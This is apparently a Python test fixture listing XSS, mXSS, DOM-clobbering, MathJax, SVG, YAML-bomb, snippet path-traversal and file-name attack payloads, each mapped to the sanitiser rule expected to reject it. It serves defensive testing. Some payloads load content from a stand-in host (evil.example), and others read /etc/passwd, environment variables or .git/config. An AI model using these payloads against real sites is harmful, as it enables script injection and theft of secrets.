"""恶意内容的语料：每条是（编号，出自哪一类公开的攻击，内容，应有的结果）。

结果是拒绝它的规则编号，或 HARMLESS：照常发布，在真实浏览器里什么也不发生。`PWN` 是攻击得逞时会运行的脚本：没有等号与下划线，不加引号、写在公式里也完整。
"""

PWN = "pwn()"
EVIL = "https://evil.example"
HARMLESS = "harmless"

OWASP = "OWASP XSS Filter Evasion Cheat Sheet"
PURIFY = "DOMPurify / cure53：mXSS、命名空间混淆、DOM clobbering"
HTML5SEC = "cure53 HTML5 Security Cheatsheet"
POSTXSS = "lcamtuf「Postcards from the post-XSS world」：不用脚本的注入"
MARKDOWN = "Markdown 渲染器的链接与属性注入（CWE-79）"
MATHJAX = "MathJax safe 扩展所防的命令"
JUPYTER = "Jupyter / nbviewer 不可信输出"
SVG = "SVG 里的脚本与外部引用"
SNIPPETS = "CVE-2023-32309：pymdownx.snippets 路径穿越"
YAML = "YAML 标签与锚点炸弹（billion laughs、CVE-2017-18342）"
CONFIG = "主题的 front matter 键被用来读别的模板"
LFI = "仓库里的符号链接、可发布的文件种类（CWE-59、CWE-434）"
REDOS = "ReDoS 与深嵌套（CWE-1333、CWE-674）"

# 写在页面正文里
PAGES = [
    ("script", OWASP, f"<script>{PWN}</script>", "KB601"),
    ("script-mixed-case", OWASP, f"<ScRiPt>{PWN}</sCrIpT>", "KB601"),
    ("script-inline", OWASP, f"文字 <script>{PWN}</script> 文字", "KB601"),
    ("script-foreign", OWASP, f'<script src="{EVIL}/x.js"></script>', "KB601"),
    ("script-slash", OWASP, f'<script/x src="{EVIL}/x.js"></script>', "KB601"),
    ("script-split", OWASP, f"<scr<script>ipt>{PWN}</scr</script>ipt>", "KB601"),
    ("script-in-block", OWASP, f'!!! note "题"\n    <script>{PWN}</script>', "KB601"),
    (
        "script-in-details",
        OWASP,
        f'??? question "题"\n    <div markdown>\n    <script>{PWN}</script>\n    </div>',
        "KB601",
    ),
    ("script-in-table", OWASP, f"| 甲 |\n| --- |\n| <script>{PWN}</script> |", "KB601"),
    ("script-in-footnote", OWASP, f"甲[^1]\n\n[^1]: <script>{PWN}</script>", "KB601"),
    ("script-in-md-in-html", OWASP, f'<div markdown="1">\n<script>{PWN}</script>\n</div>', "KB601"),
    ("onerror", OWASP, f"<img src=x.png onerror={PWN}>", "KB602"),
    ("onerror-no-space", OWASP, f'<img/src="x.png"/onerror="{PWN}">', HARMLESS),
    ("onerror-newline", OWASP, f'<img\nsrc="x.png"\nonerror="{PWN}">', "KB602"),
    ("onload-entity", OWASP, '<p onmouseover="&#112;wn()">甲</p>', "KB602"),
    ("ontoggle", HTML5SEC, f'<details open ontoggle="{PWN}"><summary>甲</summary></details>', "KB602"),
    ("onfocus-autofocus", HTML5SEC, f'<input onfocus="{PWN}" autofocus>', "KB602"),
    ("onanimationstart", HTML5SEC, f'<p class="md-x" onanimationstart="{PWN}">甲</p>', "KB602"),
    ("body-onload", OWASP, f'<body onload="{PWN}">', "KB604"),
    ("html-attribute", HTML5SEC, f'<html onclick="{PWN}">', "KB604"),
    ("iframe", OWASP, f'<iframe src="{EVIL}"></iframe>', "KB601"),
    (
        "iframe-srcdoc",
        HTML5SEC,
        f'<iframe srcdoc="&lt;script&gt;parent.{PWN}&lt;/script&gt;"></iframe>',
        "KB601",
    ),
    ("object", OWASP, f'<object data="{EVIL}/x"></object>', "KB601"),
    ("embed", OWASP, f'<embed src="{EVIL}/x.svg">', "KB601"),
    ("base", OWASP, f'<base href="{EVIL}/">', "KB601"),
    ("meta-refresh", OWASP, f'<meta http-equiv="refresh" content="0;url={EVIL}">', "KB601"),
    (
        "meta-policy",
        POSTXSS,
        """<meta http-equiv="Content-Security-Policy" content="script-src 'none'">""",
        "KB601",
    ),
    ("link-stylesheet", OWASP, f'<link rel="stylesheet" href="{EVIL}/x.css">', "KB601"),
    ("style-import", OWASP, f'<style>@import "{EVIL}/x.css";</style>', "KB601"),
    ("style-url", OWASP, f'<p style="background:url({EVIL}/x.png)">甲</p>', "KB602"),
    ("style-overlay", POSTXSS, '<p style="position:fixed;inset:0">甲</p>', "KB602"),
    ("class-overlay", POSTXSS, '<a href="https://example.org" class="md-overlay">甲</a>', "KB602"),
    ("form-foreign", POSTXSS, f'<form action="{EVIL}"><input name="a"></form>', "KB602"),
    ("formaction", HTML5SEC, f'<form><button formaction="javascript:{PWN}">甲</button></form>', "KB602"),
    ("password-field", POSTXSS, '<input type="password" name="a">', "KB602"),
    ("audio", HTML5SEC, f'<audio src="{EVIL}/x" autoplay></audio>', "KB601"),
    ("video-poster", HTML5SEC, f'<video poster="{EVIL}/x.png"></video>', "KB601"),
    (
        "picture-srcset",
        HTML5SEC,
        f'<picture><source srcset="{EVIL}/x.png"><img src="x.png"></picture>',
        "KB601",
    ),
    ("img-srcset", HTML5SEC, f'<img src="x.png" srcset="{EVIL}/x.png">', "KB602"),
    (
        "target-blank",
        "OWASP HTML5 Security：tabnabbing",
        '<a href="https://example.org" target="_blank">甲</a>',
        "KB602",
    ),
    ("ping", HTML5SEC, f'<a href="https://example.org" ping="{EVIL}">甲</a>', "KB602"),
    ("marquee", HTML5SEC, f'<marquee onstart="{PWN}">甲</marquee>', "KB601"),
    ("dialog-popover", HTML5SEC, "<dialog open>甲</dialog>", "KB601"),
    ("custom-element", HTML5SEC, "<x-evil>甲</x-evil>", "KB601"),
    ("dangling-attribute", POSTXSS, "<a href='https://evil.example/?", HARMLESS),
    ("dangling-attribute-in-block", POSTXSS, "<div>\n<a href='https://evil.example/?\n</div>", "KB604"),
    ("dangling-comment", POSTXSS, "<div>甲\n\n<!-- 没有结尾", "KB604"),
    ("dangling-textarea", POSTXSS, f'<form action="{EVIL}"><textarea name="x">', "KB604"),
    ("plaintext", POSTXSS, "<plaintext>", "KB604"),
    ("extra-end-tags", POSTXSS, "</div></article></main>\n\n<p>甲</p>", "KB604"),
    ("unclosed-link", POSTXSS, f'<p><a href="{EVIL}">甲</p>', "KB604"),
    (
        "mxss-math-style",
        PURIFY,
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
        "KB604",
    ),
    (
        "mxss-svg-style",
        PURIFY,
        f'<svg></p><style><a title="</style><img src=x onerror={PWN}>"></style></svg>',
        "KB601",
    ),
    (
        "mxss-noscript",
        PURIFY,
        f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
        "KB601",
    ),
    ("mxss-template", PURIFY, f"<template><script>{PWN}</script></template>", "KB601"),
    ("mxss-select", PURIFY, f"<select><style></select><img src=x onerror={PWN}></style>", "KB601"),
    (
        "mxss-form-nesting",
        PURIFY,
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
        "KB601",
    ),
    ("clobber-id", PURIFY, '<a id="__config" href="#x">甲</a>', "KB602"),
    ("clobber-search", PURIFY, '<p id="__search">甲</p>', "KB602"),
    ("clobber-img-name", PURIFY, '<img src="x.png" name="currentScript">', "KB602"),
    ("clobber-heading", PURIFY, "## 甲 { #__drawer }", "KB602"),
    ("clobber-form", PURIFY, '<form name="search"><input name="query"></form>', "KB602"),
    ("theme-component", PURIFY, '<p data-md-component="search">甲</p>', "KB602"),
    ("link-javascript", MARKDOWN, f"[甲](javascript:{PWN})", "KB603"),
    ("link-javascript-case", MARKDOWN, f"[甲](JaVaScRiPt:{PWN})", "KB603"),
    ("link-entity", OWASP, f'<a href="&#106;avascript:{PWN}">甲</a>', "KB603"),
    ("link-tab", OWASP, f'<a href="java&#9;script:{PWN}">甲</a>', "KB603"),
    ("link-control", OWASP, f'<a href="&#1;javascript:{PWN}">甲</a>', "KB603"),
    ("link-data", MARKDOWN, f"[甲](data:text/html,<script>{PWN}</script>)", "KB603"),
    ("link-vbscript", OWASP, "[甲](vbscript:x)", "KB603"),
    ("link-reference", MARKDOWN, f"[甲][r]\n\n[r]: javascript:{PWN}", "KB603"),
    ("link-blob", MARKDOWN, "[甲](blob:https://evil.example/x)", "KB603"),
    ("link-scheme-relative", OWASP, '<a href="//evil.example">甲</a>', "KB603"),
    ("link-backslash", OWASP, r'<a href="/\evil.example">甲</a>', "KB603"),
    ("link-file", MARKDOWN, "[甲](file:///etc/passwd)", "KB603"),
    ("link-leaves-site", MARKDOWN, '<a href="../../../other-site/">甲</a>', "KB603"),
    ("image-foreign", MARKDOWN, f"![甲]({EVIL}/x.png)", "KB603"),
    ("image-data-svg", SVG, "![甲](data:image/svg+xml;base64,PHN2Zy8+)", "KB603"),
    ("attr-list-onclick", MARKDOWN, f'甲\n{{ onclick="{PWN}" }}', "KB602"),
    ("attr-list-style", MARKDOWN, f'甲\n{{ style="background:url({EVIL})" }}', "KB602"),
    ("attr-list-link", MARKDOWN, f'[甲](https://example.org){{ onmouseover="{PWN}" }}', "KB602"),
    (
        "marker-in-attribute",
        PURIFY,
        """<a href="#x" title='<span class="arithmatex">\\(x\\)</span>'>甲</a>""",
        "KB602",
    ),
    ("figure-by-hand", PURIFY, '<kb-figure ref="rl/none/0">甲</kb-figure>', "KB601"),
    ("svg-script", SVG, f"<svg><script>{PWN}</script></svg>", "KB601"),
    ("svg-onload", SVG, f'<svg onload="{PWN}"></svg>', "KB602"),
    (
        "svg-foreign-object",
        SVG,
        f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>",
        "KB601",
    ),
    (
        "svg-animate-href",
        SVG,
        f'<svg><a><animate attributeName="href" values="javascript:{PWN}"/></a></svg>',
        "KB601",
    ),
    ("svg-use", SVG, f'<svg><use href="{EVIL}/x.svg#a"/></svg>', "KB603"),
    ("svg-image", SVG, f'<svg><image href="{EVIL}/x.png"/></svg>', "KB603"),
    ("svg-style", SVG, f'<svg><rect style="fill:url({EVIL}/x)"/></svg>', "KB602"),
    ("math-href", HTML5SEC, f'<math href="javascript:{PWN}">甲</math>', "KB601"),
    ("emoji-path", "图标名里的路径穿越", ":../../../../etc/passwd:", HARMLESS),
    ("code-block", OWASP, f"```html\n<script>{PWN}</script>\n```", HARMLESS),
    ("code-span", OWASP, f"`<img src=x onerror={PWN}>`", HARMLESS),
    ("code-language", MARKDOWN, f'``` {{ .python title="<img src=x onerror={PWN}>" }}\nx\n```', HARMLESS),
    ("heading-code", MARKDOWN, f"## `<img src=x onerror={PWN}>`", HARMLESS),
    ("heading-entity", MARKDOWN, f"## &lt;img src=x onerror={PWN}&gt;", HARMLESS),
    ("heading-escaped", MARKDOWN, f"## \\<script>{PWN}</script\\>", "KB601"),
    ("toc-label", MARKDOWN, f'## 甲 {{ data-toc-label="<img src=x onerror={PWN}>" }}', "KB602"),
    ("image-alt", MARKDOWN, f'![" onerror="{PWN}](../assets/icon-192.png)', HARMLESS),
    ("link-title", MARKDOWN, f"""[甲](https://example.org '" onmouseover="{PWN}')""", HARMLESS),
    ("abbr-title", MARKDOWN, f'甲乙丙\n\n*[甲乙丙]: " onmouseover="{PWN}', HARMLESS),
    ("footnote-name", MARKDOWN, f'甲[^"onclick={PWN}]\n\n[^"onclick={PWN}]: 乙', HARMLESS),
    ("null-byte", OWASP, f"甲 <scr\0ipt>{PWN}</scr\0ipt>", "KB601"),
    (
        "template-syntax",
        "服务端模板注入（CWE-1336）",
        "{{ config.repo_url }} {{ ''.__class__ }} {% include 'x' %}",
        HARMLESS,
    ),
]

# 公式：写成 $…$ 放进页面
FORMULAS = [
    ("href", MATHJAX, rf"\href{{javascript:{PWN}}}{{x}}", "Undefined control sequence \\href"),
    ("require", MATHJAX, r"\require{html}x", "Undefined control sequence \\require"),
    ("class", MATHJAX, r"\class{md-overlay}{x}", "Undefined control sequence \\class"),
    ("css-id", MATHJAX, r"\cssId{__search}{x}", "Undefined control sequence \\cssId"),
    ("style", MATHJAX, rf"\style{{background:url({EVIL})}}{{x}}", "Undefined control sequence \\style"),
    ("data", MATHJAX, r"\data{a=b}{x}", "Undefined control sequence \\data"),
    ("unicode", MATHJAX, r"\unicode{x3c}", "Undefined control sequence \\unicode"),
    ("token-href", MATHJAX, rf'\mmlToken{{mi}}[href="javascript:{PWN}"]{{x}}', "KB601"),
    ("token-style", MATHJAX, rf'\mmlToken{{mi}}[style="background:url({EVIL}/x.png)"]{{x}}', "KB602"),
    ("token-id", MATHJAX, r'\mmlToken{mi}[id="__search"]{x}', "KB602"),
    ("token-class", MATHJAX, r'\mmlToken{mi}[class="md-overlay"]{x}', "KB602"),
    (
        "token-in-array",
        MATHJAX,
        rf'\begin{{array}}{{c@{{\mmlToken{{mi}}[href="{EVIL}"]{{y}}}}c}}x\end{{array}}',
        "KB601",
    ),
    ("cancel-background", MATHJAX, rf'\cancel[mathbackground="red;background:url({EVIL})"]{{x}}', "KB602"),
    ("reference", MATHJAX, r"\eqref{a}", "KB601"),
    ("label", MATHJAX, r"\label{__search}x\tag{1}", HARMLESS),
    ("def-bomb", MATHJAX, r"\def\a{\a\a}\a", "Undefined control sequence \\def"),
    ("newcommand-bomb", MATHJAX, r"\newcommand{\a}{\a\a}\a", "Undefined control sequence \\newcommand"),
    ("let", MATHJAX, r"\let\frac\sqrt", "Undefined control sequence \\let"),
    (
        "column-bomb",
        MATHJAX,
        r"\begin{array}{*{9}{*{9}{*{9}{*{9}{*{9}{*{9}{c}}}}}}}x\end{array}",
        "Too many column",
    ),
    ("nesting", REDOS, "{" * 950 + "x" + "}" * 950, "Maximum call stack"),
    ("length", REDOS, "x" * 2001, "超过 2000"),
    ("deep-nesting", REDOS, r"\sqrt{" * 5000 + "x" + "}" * 5000, "超过 2000"),
    ("text-tag", MATHJAX, rf"\text{{<img src=x onerror={PWN}>}}", HARMLESS),
    ("text-end-script", MATHJAX, rf"\text{{</script><script>{PWN}</script>}}", HARMLESS),
    ("text-quotes", MATHJAX, rf"\text{{' onmouseover={PWN} x='}}", HARMLESS),
]

# 笔记的一个单元：Markdown 单元，或代码单元的输出
CELLS = [
    ("markdown-onerror", JUPYTER, f"# %% [markdown]\n# <img src=x.png onerror={PWN}>", "KB602"),
    ("markdown-iframe", JUPYTER, f'# %% [markdown]\n# <iframe src="{EVIL}"></iframe>', "KB601"),
    ("markdown-link", JUPYTER, f"# %% [markdown]\n# [甲](javascript:{PWN})", "KB603"),
    (
        "html-split-script",
        JUPYTER,
        f"# %%\nHTML('<p>甲</p><scr<script></script>ipt>{PWN}</scr<script></script>ipt>')",
        "KB601",
    ),
    (
        "markdown-data-svg",
        JUPYTER,
        '# %% [markdown]\n# <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
        "KB603",
    ),
    ("html-output", JUPYTER, f"""# %%\nHTML('<p onclick="{PWN}">甲</p>')""", "KB602"),
    ("html-form", JUPYTER, f"""# %%\nHTML('<form action="{EVIL}/form">甲</form>')""", "KB602"),
    ("html-foreign-image", JUPYTER, f"""# %%\nHTML('<img src="{EVIL}/pixel.png">')""", "KB603"),
]

# 单元输出的 SVG
FIGURES = [
    ("script", SVG, f"<script>{PWN}</script>", "KB601"),
    ("event", SVG, f'<rect onclick="{PWN}"/>', "KB602"),
    ("foreign-object", SVG, "<foreignObject><p>甲</p></foreignObject>", "KB60"),
    ("html-inside", SVG, "<p>甲</p>", "KB60"),
    ("image", SVG, f'<image href="{EVIL}/x.png"/>', "KB603"),
    ("image-xlink", SVG, f'<image xlink:href="{EVIL}/x.png"/>', "KB603"),
    ("use-data", SVG, '<use href="data:image/svg+xml,x#a"/>', "KB603"),
    ("link", SVG, f'<a href="javascript:{PWN}"><rect/></a>', "KB60"),
    ("set-href", SVG, '<set attributeName="href" to="javascript:x"/>', "KB601"),
    ("style-element", SVG, f'<style>@import "{EVIL}"', "KB60"),
    ("style-url", SVG, f'<rect style="fill: url({EVIL}/x)"/>', "KB602"),
    ("style-escape", SVG, r'<rect style="fill: u\72l(x)"/>', "KB602"),
    ("style-position", SVG, '<rect style="position: fixed"/>', "KB602"),
    ("fill-url", SVG, f'<rect fill="url({EVIL}/x)"/>', "KB603"),
    ("break-out", PURIFY, f"</svg><img src=x onerror={PWN}><svg>", "KB60"),
]

# docs/ 里单独的 SVG 文件，按 XML 读
SVG_FILES = [
    (
        "entities",
        "XML 实体炸弹（CWE-776）",
        '<!DOCTYPE svg [<!ENTITY a "甲">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        "KB601",
    ),
    (
        "stylesheet",
        "xml-stylesheet 处理指令",
        f'<?xml-stylesheet href="{EVIL}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "KB601",
    ),
    (
        "prefix",
        PURIFY,
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{PWN}</h:script></svg>',
        "KB60",
    ),
    ("namespace", PURIFY, '<svg xmlns="http://www.w3.org/1999/xhtml"/>', "KB602"),
    ("script", SVG, f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}</script></svg>', "KB601"),
]

BOMB = "answer: &a 甲\n" + "".join(
    f"tags{i}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)
# front matter；整个文件的内容
METAS = [
    ("env-tag", YAML, "---\ntitle: !ENV [SECRET]\n---\n", HARMLESS),
    ("python-object", YAML, '---\ntitle: !!python/object/apply:os.system ["id"]\n---\n', HARMLESS),
    ("anchor-bomb", YAML, f"---\n{BOMB}---\n", "KB605"),
    ("tags-bomb", YAML, "---\ntags: &a [[x, x], [x, x]]\n---\n", "KB605"),
    ("title-tag", CONFIG, f"---\ntitle: 甲</title><script>{PWN}</script>\n---\n", "KB605"),
    ("title-object", CONFIG, "---\ntitle: {a: b}\n---\n", "KB605"),
    ("description-quote", CONFIG, f"""---\ndescription: '甲"><script>{PWN}</script>'\n---\n""", "KB605"),
    ("tags-tag", CONFIG, "---\ntags: ['<img src=x>']\n---\n", "KB605"),
    ("template", CONFIG, "---\ntemplate: ../../secret\n---\n", "KB605"),
    ("template-multimarkdown", CONFIG, "template: ../../secret\n\n# 甲\n", "KB605"),
    ("icon", CONFIG, "---\nicon: ../../../etc/passwd\n---\n", "KB605"),
    ("hide", CONFIG, "---\nhide: ['navigation\" onclick=\"x']\n---\n", "KB605"),
    ("search", CONFIG, "---\nsearch: {boost: '1;x'}\n---\n", "KB605"),
    ("answer-include", SNIPPETS, '---\nanswer: |\n  甲\n  --8<-- "mkdocs.yml"\n---\n', "KB605"),
]

# --8<-- 嵌入：写在页面里的一行或几行
INCLUDES = [
    ("git-config", SNIPPETS, '--8<-- ".git/config"'),
    ("parent", SNIPPETS, '--8<-- "../../../etc/passwd"'),
    ("snippets-parent", SNIPPETS, '--8<-- "snippets/../.git/config"'),
    ("absolute", SNIPPETS, '--8<-- "/etc/passwd"'),
    ("environment", SNIPPETS, '--8<-- "/proc/self/environ"'),
    ("url", SNIPPETS, f'--8<-- "{EVIL}/x.md"'),
    ("single-quotes", SNIPPETS, "--8<-- '.git/config'"),
    ("block", SNIPPETS, "--8<--\n.git/config\n--8<--"),
    ("long-dashes", SNIPPETS, '------8<------ "mkdocs.yml"'),
    ("sibling-prefix", SNIPPETS, '--8<-- "../fragments-secret/x.md"'),
    ("section", SNIPPETS, '--8<-- "requirements/site.in:1:3"'),
]

# 仓库里的文件：（路径，内容；None 是指向 /etc/passwd 的符号链接）
FILES = [
    ("name-tag", LFI, "docs/rl/x<img onerror=1>.md", "甲"),
    ("name-quote", LFI, 'docs/rl/x"y.md', "甲"),
    ("name-space", LFI, "docs/rl/x y.md", "甲"),
    ("name-hash", LFI, "docs/rl/x#y.md", "甲"),
    ("name-query", LFI, "docs/rl/x?y.md", "甲"),
    ("name-percent", LFI, "docs/rl/x%2e%2e.md", "甲"),
    ("name-newline", LFI, "docs/rl/x\ny.md", "甲"),
    ("name-bidi", LFI, "docs/rl/x\u202ey.md", "甲"),
    ("name-long", LFI, f"docs/rl/{'x' * 120}.md", "甲"),
    ("name-in-notebooks", LFI, "notebooks/rl/x'y.py", "甲"),
    ("folder-name", LFI, "docs/r l/x.md", "甲"),
    ("html", LFI, "docs/rl/x.html", f"<script>{PWN}</script>"),
    ("xhtml", LFI, "docs/x.xhtml", "甲"),
    ("script-outside-assets", LFI, "docs/rl/x.js", PWN),
    ("domain", LFI, "docs/CNAME", "evil.example"),
    ("notebook-ready-made", JUPYTER, "docs/rl/x.ipynb", "{}"),
    ("symlink-page", LFI, "docs/rl/x.md", None),
    ("symlink-snippet", LFI, "snippets/rl/x.py", None),
    ("symlink-notebook", LFI, "notebooks/rl/x.py", None),
    ("huge-page", REDOS, "docs/rl/x.md", "甲" * 40_000),
]
